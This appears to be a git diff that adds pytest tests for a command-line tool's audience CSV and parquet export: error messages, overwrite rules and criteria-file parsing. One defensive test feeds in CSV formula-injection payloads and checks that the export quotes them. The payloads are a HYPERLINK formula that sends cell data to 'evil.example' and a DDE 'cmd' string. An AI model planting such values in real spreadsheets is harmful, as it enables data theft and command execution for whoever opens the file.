@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 from typer.testing import CliRunner
@@ -192,3 +193,198 @@ def test_analyze_whose_pagerank_does_not_converge_writes_nothing_and_says_what_t
     assert "RELGRAPH_INFLUENCE_MAX_ITERATIONS" in _flat(result.output)
     with EmbeddedStore(data, read_only=True) as store:
         assert store.result_names() == []
+
+
+# -- audience exports -------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def analysed(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The hand-made audience bank, loaded and analysed."""
+    from relgraph.graph import build_projection
+    from relgraph.ingest import load_directory
+    from relgraph.jobs.analyze import analyze
+    from tests.analytics.test_audience import BANK
+    from tests.banks import write_bank
+
+    folder = tmp_path_factory.mktemp("cli-audience")
+    with EmbeddedStore(folder / "data") as store:
+        load_directory(
+            write_bank(folder / "bank", BANK), store, folder / "data", id_secret="s" * 32
+        )
+        analyze(store, build_projection(store))
+    return folder / "data"
+
+
+def _criteria(folder: Path, text: str | bytes = '{"unit": "HOUSEHOLD"}') -> Path:
+    path = folder / "criteria.json"
+    path.write_bytes(text.encode() if isinstance(text, str) else text)
+    return path
+
+
+def _export(data: Path, criteria: Path, out: Path, *extra: str) -> Any:
+    return runner.invoke(
+        app,
+        [
+            "audience",
+            "--criteria",
+            str(criteria),
+            "--out",
+            str(out),
+            "--data-dir",
+            str(data),
+            *extra,
+        ],
+    )
+
+
+def _one_line_error(result: Any) -> str:
+    assert result.exit_code == 2, result.output
+    assert result.stdout == ""
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1, result.stderr
+    assert lines[0].startswith("error: ")
+    return str(lines[0])
+
+
+def test_audience_csv_cells_a_spreadsheet_would_run_are_quoted(
+    analysed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import csv
+    import dataclasses
+
+    import numpy as np
+
+    from relgraph.analytics.audience import Criteria, campaign_audience
+    from relgraph.analytics.audience_source import AudienceSource
+
+    # Ids that got past ingest (another system wrote the store): the export still holds.
+    real = AudienceSource.from_store
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1)',
+        "@SUM(1+1)",
+        "\tP",
+        "\rP",
+        "+8613800138000",
+        "-5",
+    ]
+
+    def from_store(store: Any) -> AudienceSource:
+        source = real(store)
+        n = len(source.parties.ids)
+        ids = np.array([f"{hostile[i % len(hostile)]}.{i}" for i in range(n)], dtype=object)
+        households = source.households
+        assert households is not None
+        units = np.array([f"=cmd|' /C calc'!A{i}" for i in range(len(households.ids))], object)
+        return dataclasses.replace(
+            source,
+            parties=dataclasses.replace(source.parties, ids=ids),
+            households=dataclasses.replace(households, ids=units, orders={}),
+        )
+
+    monkeypatch.setattr(AudienceSource, "from_store", from_store)
+    out = tmp_path / "audience.csv"
+    result = _export(analysed, _criteria(tmp_path, '{"unit": "HOUSEHOLD", "minSize": 1}'), out)
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    with EmbeddedStore(analysed, read_only=True) as store:
+        frame = campaign_audience(from_store(store), Criteria("HOUSEHOLD", min_size=1)).frame()
+    assert len(rows) == len(frame) > 0
+
+    def shown(text: str) -> str:
+        return "'" + text if text[:1] in ("=", "@", "\t", "\r") else text
+
+    assert [r["unit_id"] for r in rows] == [shown(u) for u in frame["unit_id"]]
+    assert [r["contacts"] for r in rows] == [shown(";".join(c)) for c in frame["contacts"]]
+    firsts = {c[0][0] for c in frame["contacts"]}
+    assert {"=", "@", "+", "-"} & firsts, "some entry should start with a hostile contact"
+    assert any(r["contacts"].startswith(("+", "-")) for r in rows) == bool({"+", "-"} & firsts)
+    # Numbers are written as they are: the values read back exactly.
+    assert [float(r["deposits"]) for r in rows] == frame["deposits"].tolist()
+    assert [int(r["contact_count"]) for r in rows] == frame["contact_count"].tolist()
+
+
+@pytest.mark.parametrize("where", ["missing-folder", "a-folder", "existing-file"])
+def test_audience_out_that_cannot_be_written_whole_is_one_line_error(
+    analysed: Path, tmp_path: Path, where: str
+) -> None:
+    out = {
+        "missing-folder": tmp_path / "no" / "such" / "audience.csv",
+        "a-folder": tmp_path / "exports.csv",
+        "existing-file": tmp_path / "audience.csv",
+    }[where]
+    if where == "a-folder":
+        out.mkdir()
+    if where == "existing-file":
+        out.write_text("yesterday's audience\n", encoding="utf-8")
+    criteria = _criteria(tmp_path)
+    before = sorted(p.name for p in tmp_path.rglob("*"))
+    line = _one_line_error(_export(analysed, criteria, out))
+    assert {
+        "missing-folder": "does not exist: create it or choose another",
+        "a-folder": "is a folder: give a file name",
+        "existing-file": "already exists: choose another name or pass --force",
+    }[where] in line
+    assert sorted(p.name for p in tmp_path.rglob("*")) == before  # nothing written, no partial
+    if where == "existing-file":
+        assert out.read_text(encoding="utf-8") == "yesterday's audience\n"
+
+
+def test_audience_force_replaces_an_existing_export(analysed: Path, tmp_path: Path) -> None:
+    out = tmp_path / "audience.csv"
+    out.write_text("yesterday's audience\n", encoding="utf-8")
+    result = _export(analysed, _criteria(tmp_path), out, "--force")
+    assert result.exit_code == 0, result.output
+    assert out.read_text(encoding="utf-8").startswith('"unit","unit_id"')
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["audience.csv", "criteria.json"]
+
+
+def test_a_failed_audience_export_leaves_no_partial_file(
+    analysed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import pyarrow.csv as pacsv
+
+    def half_then_fail(table: Any, path: Any, *args: Any, **kwargs: Any) -> None:
+        Path(path).write_text('"unit","unit_id"\n"HOUSEHOLD",', encoding="utf-8")
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(pacsv, "write_csv", half_then_fail)
+    out = tmp_path / "audience.csv"
+    result = _export(analysed, _criteria(tmp_path), out)
+    assert result.exit_code != 0
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["criteria.json"]
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (
+            '{"unit": "HOUSEHOLD"}'.encode("utf-16"),
+            "is not UTF-8 text: save the criteria as UTF-8 JSON",
+        ),
+        ("{'unit': 'HOUSEHOLD'}".encode("gbk"), "is not valid JSON: Expecting property name"),
+        ("单位=家庭".encode("gbk"), "is not UTF-8 text"),
+        (b"", "is not valid JSON: Expecting value"),
+        (b'["HOUSEHOLD"]', "Criteria must be a JSON object"),
+        (None, "does not exist"),
+    ],
+    ids=["utf-16", "not-json", "gbk", "empty", "not-an-object", "missing"],
+)
+def test_a_bad_criteria_file_is_one_line_error(
+    analysed: Path, tmp_path: Path, content: bytes | None, message: str
+) -> None:
+    criteria = tmp_path / "criteria.json"
+    if content is not None:
+        criteria.write_bytes(content)
+    out = tmp_path / "audience.csv"
+    line = _one_line_error(_export(analysed, criteria, out))
+    assert message in line
+    assert not out.exists()
+
+
+def test_a_criteria_file_with_a_byte_order_mark_is_read(analysed: Path, tmp_path: Path) -> None:
+    criteria = _criteria(tmp_path, '{"unit": "HOUSEHOLD"}'.encode("utf-8-sig"))
+    result = _export(analysed, criteria, tmp_path / "audience.parquet")
+    assert result.exit_code == 0, result.output
+    assert (tmp_path / "audience.parquet").exists()
